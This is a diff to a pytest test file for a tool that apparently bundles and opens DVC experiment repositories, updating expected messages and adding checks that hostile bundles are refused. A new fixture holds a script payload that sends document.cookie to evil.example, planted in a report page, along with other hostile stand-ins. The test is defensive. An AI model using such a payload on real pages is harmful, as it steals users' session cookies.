@@ -12,7 +12,7 @@ from typing import Any
 
 import pytest
 
-from tests.support.bundles import Parts, bundled, md5, parts_of, sha256, with_results
+from tests.support.bundles import Parts, bundled, md5, parts_of, report_of, sha256, with_results
 from tests.support.commands import environment
 from tests.support.repositories import call, expect_refusal, new_repo
 from tests.support.specs import SMALL
@@ -59,14 +59,24 @@ def below(folder: Path) -> dict[str, bytes]:
     return found
 
 
+def travelling(repo: Path) -> dict[str, bytes]:
+    """The files of a repository but for its report, which is made where it is read."""
+    report = report_of(repo, b"what reports/tiny/index.html holds\n").objects
+    stay = {f".dvc/cache/files/md5/{digest[:2]}/{digest[2:]}" for digest in report} | {"dvc.lock"}
+    files = below(repo)
+    assert files.keys() >= stay
+    return {name: content for name, content in files.items() if name not in stay}
+
+
 def test_it_is_the_same_repository(made: Path, bundle: Path) -> None:
     said = opened(bundle).stdout
     assert "opened 'tiny' in 'there', made by dataenvgym-spec" in said
     assert "same keys: all 15 stages" in said
     assert said.endswith(
-        "  cd there\n  dvc repro tiny   # runs nothing\n  dataenvgym report tiny\n"
+        "  cd there\n  dvc repro tiny   # runs no stage, and makes the report\n"
+        "  dataenvgym report tiny\n"
     )
-    ours, theirs = below(made / "repo"), below(bundle.parent / "there")
+    ours, theirs = travelling(made / "repo"), below(bundle.parent / "there")
     differing = {name for name in ours.keys() & theirs.keys() if ours[name] != theirs[name]}
     assert not differing
     assert ours.keys() ^ theirs.keys() <= {".gitignore", ".dvc/.gitignore"}
@@ -74,7 +84,8 @@ def test_it_is_the_same_repository(made: Path, bundle: Path) -> None:
     checked = call("dataenvgym", "compile", "--check", cwd=bundle.parent / "there").stdout
     assert checked == "up to date\n"
     plan = call("dataenvgym", "plan", cwd=bundle.parent / "there").stdout
-    assert plan.startswith("tiny: 16 restore")
+    assert plan.startswith("tiny: 1 run, 15 restore\n")
+    assert re.search(r"run +report +it was never made here\n", plan)
 
 
 def test_its_own_bundle_is_the_same_bytes(bundle: Path, tmp_path: Path) -> None:
@@ -85,7 +96,7 @@ def test_its_own_bundle_is_the_same_bytes(bundle: Path, tmp_path: Path) -> None:
 def test_it_is_opened_where_the_working_directory_is(bundle: Path, tmp_path: Path) -> None:
     (tmp_path / "empty").mkdir()
     said = call("dataenvgym", "open", str(bundle), "--into", ".", cwd=tmp_path / "empty").stdout
-    assert "next:\n  dvc repro tiny   # runs nothing" in said
+    assert "next:\n  dvc repro tiny   # runs no stage" in said
     # Once more changes nothing.
     before = below(tmp_path / "empty")
     call("dataenvgym", "open", str(bundle), "--into", ".", cwd=tmp_path / "empty")
@@ -102,10 +113,10 @@ def test_it_is_added_to_a_repository(bundle: Path, tmp_path: Path) -> None:
     call("dataenvgym", "compile", cwd=other)
     before = below(other)
     said = opened(bundle).stdout
-    assert "# runs nothing" in said
+    assert "# runs no stage" in said
     after = below(other)
     changed = {name for name in before if before[name] != after.get(name)}
-    assert changed == {"dvc.yaml", "dvc.lock"}
+    assert changed == {"dvc.yaml"}
     assert b"  own:" in after["dvc.yaml"] and b"cmd: other" in after["dvc.lock"]
     steps = call("dataenvgym", "plan", "mine", cwd=other).stdout
     assert steps.startswith("mine: 15 restore, 1 run") or "mine: 1 run, 15 restore" in steps
@@ -205,25 +216,26 @@ def test_without_students_it_says_what_can_be_done(made: Path, tmp_path: Path) -
     bundle = bundled(made / "repo", tmp_path / "small.gz", "results")
     said = added(bundle).stdout
     assert "students  stay here" in said
-    assert "  dvc checkout --allow-missing\n  dataenvgym report tiny\n" in said
-    assert re.search(r"dataenvgym run tiny   # \d steps to run", said)
+    makes = (
+        "dvc checkout --allow-missing\n  dvc repro --single-item tiny\n  dataenvgym report tiny\n"
+    )
+    assert makes in said
+    assert re.search(r"dataenvgym run tiny   # \d stages to run", said)
     there = tmp_path / "there"
     call("dvc", "checkout", "-q", "--allow-missing", cwd=there)
-    assert (there / "reports" / "tiny" / "index.html").is_file()
     (train,) = there.glob("store/train-*")
     assert (train / "log").is_dir() and not (train / "out" / "student").exists()
-    out = call("dvc", "repro", "--allow-missing", "tiny", cwd=there).stdout
-    assert "Running stage" not in out
 
 
 def test_without_results_all_is_to_run(made: Path, tmp_path: Path) -> None:
     bundle = bundled(made / "repo", tmp_path / "small.gz", "")
-    assert "dataenvgym run tiny   # 16 steps to run" in added(bundle).stdout
+    assert "dataenvgym run tiny   # 15 stages to run" in added(bundle).stdout
     assert not list((tmp_path / "there").glob("store/*/dvc.lock"))
 
 
 # --- a stranger's file ---------------------------------------------------------------------------
 
+PAGE = b"<script>fetch('https://evil.example/?' + document.cookie)</script>"
 EVIL = b"stages:\n  evil: {cmd: touch MARKER, always_changed: true}\n"
 
 
@@ -256,8 +268,9 @@ def lock_of_another_stage(parts: Parts) -> None:
     stages[0]["lock"], stages[-1]["lock"] = stages[-1]["lock"], stages[0]["lock"]
 
 
-def report_lock(parts: Parts) -> None:
-    parts.manifest["experiments"][0]["lock"]["outs"][0]["path"] = "specs"
+def result_of_nothing(parts: Parts) -> None:
+    """What would lie in DVC's cache until a lock names it."""
+    parts.object(md5(PAGE), PAGE)
 
 
 def other_spec(parts: Parts) -> None:
@@ -297,7 +310,16 @@ HOSTILE: dict[str, tuple[Callable[[Parts], Any], str]] = {
     "a command in a lock": (command_in_a_lock, "does not compile to"),
     "an output elsewhere": (output_elsewhere, "does not compile to"),
     "a lock of another stage": (lock_of_another_stage, "does not compile to"),
-    "a report elsewhere": (report_lock, "does not compile to"),
+    "a content of no result": (result_of_nothing, "which is of no result"),
+    "a page": (lambda parts: parts.file("reports/tiny/index.html", PAGE, code=True), "results are"),
+    "a database of runs": (
+        lambda parts: parts.file("mlflow.db", code=True),
+        "a file of whoever opens it",
+    ),
+    "another cluster": (
+        lambda parts: parts.file("hardware.yaml", b"ray: {address: 'evil:1'}\n", code=True),
+        "a file of whoever opens it",
+    ),
     "another spec": (other_spec, "does not compile to"),
     "a torn journal": (torn_journal, "cannot be read"),
     "a journal of another length": (longer_journal, "another number of responses"),
@@ -311,6 +333,15 @@ def test_a_hostile_one_is_refused_before_anything_is_written(name: str, bundle: 
     change(parts)
     parts.write(bundle)
     expect_refusal(opened(bundle, ok=False), "the bundle is refused", words, "nothing was written")
+    assert names(bundle.parent) == ["tiny.gz"]
+
+
+def test_a_report_that_comes_along_is_refused(made: Path, bundle: Path) -> None:
+    """Its lock fits in all that can be checked, and its page holds whatever a stranger likes."""
+    parts = parts_of(bundle)
+    parts.plant(report_of(made / "repo", PAGE))
+    parts.write(bundle)
+    expect_refusal(opened(bundle, ok=False), "cannot be read", "unknown field `lock`")
     assert names(bundle.parent) == ["tiny.gz"]
 
 
@@ -349,12 +380,15 @@ def test_another_release_keeps_what_still_has_its_key(bundle: Path) -> None:
     parts.manifest["versions"]["dataenvgym-spec"] = "0.0.1"
     row = parts.manifest["stages"][-1]
     row |= {"key": "f" * 64, "directory": f"{row['directory'].partition('-')[0]}-{'f' * 16}"}
-    parts.manifest["experiments"][0] |= {"stages": [], "lock": None}
+    parts.manifest["experiments"][0] |= {"stages": []}
     parts.write(bundle)
     said = added(bundle).stdout
     assert "other keys: 1 of 15 stages have other keys" in said
     assert "install dataenvgym-spec 0.0.1" in said
-    assert "dataenvgym run tiny   # 2 steps to run" in said
+    assert "dataenvgym run tiny   # 1 stage to run" in said
+    # What has no stage here is not kept either.
+    kept = len(list((bundle.parent / "there" / ".dvc" / "cache" / "files").glob("*/*/*")))
+    assert 0 < kept < len(parts.manifest["objects"])
 
 
 def test_a_full_disk_is_told_before_anything_is_written(
@@ -389,7 +423,7 @@ def killed_at(moments: Sequence[int], into: str, made: Path, bundle: Path) -> No
     if into == "repository":
         new_repo(there, SMALL)
         shutil.rmtree(there / "specs")
-    whole, killed = below(made / "repo"), 0
+    whole, killed = travelling(made / "repo"), 0
     for moment in moments:
         command = [
             sys.executable,
@@ -408,7 +442,7 @@ def killed_at(moments: Sequence[int], into: str, made: Path, bundle: Path) -> No
         killed += done.returncode != 0
         found = below(there) if there.exists() else {}
         for name in found.keys() & whole.keys() - {".dvc/config", ".dvcignore", ".gitignore"}:
-            assert found[name] == whole[name] or name in ("dvc.yaml", "dvc.lock"), (moment, name)
+            assert found[name] == whole[name] or name == "dvc.yaml", (moment, name)
         if into == "new" and there.exists():
             assert found.keys() >= whole.keys() - {".dvc/.gitignore"}, "all, or nothing"
     assert killed
